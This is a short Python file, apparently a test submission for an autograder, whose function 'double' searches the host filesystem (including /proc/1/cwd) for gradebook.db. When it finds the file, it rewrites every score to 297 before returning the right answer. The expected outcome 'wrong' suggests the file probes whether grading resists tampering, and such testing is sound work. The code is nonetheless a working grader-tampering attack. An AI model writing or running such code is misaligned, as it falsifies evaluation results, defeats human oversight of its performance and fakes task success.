"""Opens the gradebook and gives itself points."""

DUE = {"double": "wrong"}

# %% double
import sqlite3
from pathlib import Path

import autograder

def double(x):
    root = Path(autograder.__file__).resolve().parents[1]
    for folder in (root, *root.parents, *Path("/proc/1/cwd").resolve().parents, Path("/proc/1/cwd")):
        if (folder / "gradebook.db").exists():
            with sqlite3.connect(folder / "gradebook.db") as book:
                book.execute("update grade set auto_score = 297, manual_score = 297")
            return 2 * x
    return 1.0
